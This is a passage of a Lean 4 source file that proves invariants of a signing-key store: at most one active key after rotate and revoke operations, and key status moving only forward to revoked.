    · simp only [Bool.not_eq_true] at hb
      simp [hb, ih]

/-- After demoting every active key, no key is active. -/
theorem countActive_map_demote (s : List SigningKey) :
    countActive (s.map fun k =>
      if k.status == KeyStatus.active then { k with status := KeyStatus.rotated }
      else k) = 0 := by
  unfold countActive
  rw [List.length_eq_zero, List.filter_eq_nil_iff]
  intro x hx
  simp only [List.mem_map] at hx
  obtain ⟨k, -, rfl⟩ := hx
  by_cases h : k.status = KeyStatus.active
  · simp [h]
  · simp [h]

/-- A map that never makes a key active does not increase the number of
active keys. -/
theorem countActive_map_le (f : SigningKey → SigningKey)
    (hf : ∀ k, (f k).status = KeyStatus.active → k.status = KeyStatus.active) :
    ∀ s, countActive (s.map f) ≤ countActive s := by
  intro s
  induction s with
  | nil => exact Nat.le_refl 0
  | cons a as ih =>
    unfold countActive at ih ⊢
    simp only [List.map_cons, List.filter_cons]
    by_cases hfa : ((f a).status == KeyStatus.active) = true
    · have haa : (a.status == KeyStatus.active) = true := by
        simp only [beq_iff_eq] at hfa ⊢
        exact hf a hfa
      simp only [hfa, haa, if_true, List.length_cons]
      omega
    · by_cases haa : (a.status == KeyStatus.active) = true
      · simp only [haa, if_true, List.length_cons]
        rw [if_neg hfa]
        omega
      · rw [if_neg hfa, if_neg haa]
        exact ih

/-- One KeyStore operation keeps the at-most-one-active invariant. -/
theorem countActive_applyOp (s : List SigningKey) (op : KeyStoreOp)
    (h : countActive s ≤ 1) : countActive (applyOp s op) ≤ 1 := by
  cases op with
  | rotate nk =>
    unfold applyOp rotate
    by_cases hc : (s.any fun k => k.keyId == nk.keyId) = true
    · simp only [hc, if_true]
      exact h
    · simp only [Bool.not_eq_true] at hc
      simp only [hc, Bool.false_eq_true, if_false]
      unfold countActive
      rw [List.filter_append, List.length_append]
      have h0 := countActive_map_demote s
      unfold countActive at h0
      rw [h0]
      simp [countActive]
  | revoke rid =>
    unfold applyOp revoke
    by_cases hc : (s.any fun k => k.keyId == rid) = true
    · simp only [hc, if_true]
      refine le_trans (countActive_map_le _ ?_ s) h
      intro k hk
      by_cases hid : (k.keyId == rid) = true
      · simp only [hid, if_true] at hk
        cases hk
      · simp only [Bool.not_eq_true] at hid
        simpa [hid] using hk
    · simp only [Bool.not_eq_true] at hc
      simp only [hc, Bool.false_eq_true, if_false]
      exact h

/-- One KeyStore operation never moves a key backwards along
active → rotated → revoked. -/
theorem getKey_applyOp (s : List SigningKey) (op : KeyStoreOp) (id : String)
    (k : SigningKey) (h : getKey s id = some k) :
    ∃ k', getKey (applyOp s op) id = some k' ∧
      statusRank k.status ≤ statusRank k'.status := by
  cases op with
  | rotate nk =>
    unfold applyOp rotate
    by_cases hc : (s.any fun k => k.keyId == nk.keyId) = true
    · simp only [hc, if_true]
      exact ⟨k, h, Nat.le_refl _⟩
    · simp only [Bool.not_eq_true] at hc
      simp only [hc, Bool.false_eq_true, if_false]
      unfold getKey at h ⊢
      rw [List.find?_append,
        find?_keyId_map _ (fun k => by by_cases hk : (k.status == KeyStatus.active) = true <;> simp [hk]) id s,
        h]
      refine ⟨_, rfl, ?_⟩
      by_cases hk : (k.status == KeyStatus.active) = true
      · simp only [beq_iff_eq] at hk
        simp [hk, statusRank]
      · simp only [Bool.not_eq_true] at hk
        simp [hk]
  | revoke rid =>
    unfold applyOp revoke
    by_cases hc : (s.any fun k => k.keyId == rid) = true
    · simp only [hc, if_true]
      unfold getKey at h ⊢
      rw [find?_keyId_map _ (fun k => by by_cases hk : (k.keyId == rid) = true <;> simp [hk]) id s,
        h]
      refine ⟨_, rfl, ?_⟩
      by_cases hk : (k.keyId == rid) = true
      · simp only [hk, if_true]
        cases k.status <;> simp [statusRank]
      · simp only [Bool.not_eq_true] at hk
        simp [hk]
    · simp only [Bool.not_eq_true] at hc
      simp only [hc, Bool.false_eq_true, if_false]
      exact ⟨k, h, Nat.le_refl _⟩

/-- Across any operation sequence, a key's status only moves forward. -/
theorem getKey_applyOps :
    ∀ (ops : List KeyStoreOp) (s : List SigningKey) (id : String)
      (k : SigningKey), getKey s id = some k →
      ∃ k', getKey (applyOps s ops) id = some k' ∧
        statusRank k.status ≤ statusRank k'.status := by
  intro ops
  induction ops with
  | nil => exact fun s id k h => ⟨k, h, Nat.le_refl _⟩
  | cons op ops ih =>
    intro s id k h
    obtain ⟨k1, h1, hr1⟩ := getKey_applyOp s op id k h
    obtain ⟨k2, h2, hr2⟩ := ih (applyOp s op) id k1 h1
    exact ⟨k2, h2, Nat.le_trans hr1 hr2⟩

/-- **C7.** For every sequence of rotate/revoke operations from a store
with at most one active key: at most one key is active at any time, key
statuses move only forward along active → rotated → revoked, and a
revoked key never re-enters active or rotated. -/
theorem keystore_invariants (init : List SigningKey) (ops : List KeyStoreOp)
    (hinit : countActive init ≤ 1) :
    countActive (applyOps init ops) ≤ 1 ∧
    (∀ id k k', getKey init id = some k →
      getKey (applyOps init ops) id = some k' →
      statusRank k.status ≤ statusRank k'.status) ∧
    (∀ id k k', getKey init id = some k → k.status = KeyStatus.revoked →
      getKey (applyOps init ops) id = some k' →
      k'.status = KeyStatus.revoked) := by
  refine ⟨?_, ?_, ?_⟩
  · induction ops generalizing init with
    | nil => exact hinit
    | cons op ops ih => exact ih (applyOp init op) (countActive_applyOp init op hinit)
  · intro id k k' h1 h2
    obtain ⟨k'', h'', hr⟩ := getKey_applyOps ops init id k h1
    rw [h2] at h''
    injection h'' with h''
    rw [h'']
    exact hr
  · intro id k k' h1 hrev h2
    obtain ⟨k'', h'', hr⟩ := getKey_applyOps ops init id k h1
    rw [h2] at h''
    injection h'' with h''
    subst h''
    cases hst : k'.status
    · rw [hrev, hst] at hr
      simp [statusRank] at hr
    · rw [hrev, hst] at hr
      simp [statusRank] at hr
    · rfl

/-- Witness for C7: rotating a fresh key into an empty store and then
revoking it leaves at most one active key. -/
theorem keystore_invariants_witness :
    countActive (applyOps []
      [KeyStoreOp.rotate ⟨"k1", "ed25519", "pub1", "priv1", KeyStatus.active, 0⟩,
       KeyStoreOp.revoke "k1"]) ≤ 1 :=
  (keystore_invariants []
    [KeyStoreOp.rotate ⟨"k1", "ed25519", "pub1", "priv1", KeyStatus.active, 0⟩,
     KeyStoreOp.revoke "k1"] (by decide)).1

end PermissionProtocol
